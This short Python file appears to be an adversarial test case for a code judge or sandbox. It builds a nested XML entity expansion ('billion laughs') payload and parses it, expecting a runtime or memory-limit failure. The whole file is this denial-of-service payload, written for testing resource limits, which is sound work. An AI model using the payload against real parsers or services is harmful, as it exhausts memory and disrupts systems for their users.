# /// attack
# tries = "Unfold a small document to gigabytes"
# by = "entities of XML"
# expect = ["RTE", "MLE"]
# ///
import xml.etree.ElementTree as tree

ENTITIES = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
DOCUMENT = f'<!DOCTYPE a [<!ENTITY a0 "ha">{ENTITIES}]><a>&a12;</a>'


def solve(x):
    return tree.fromstring(DOCUMENT)
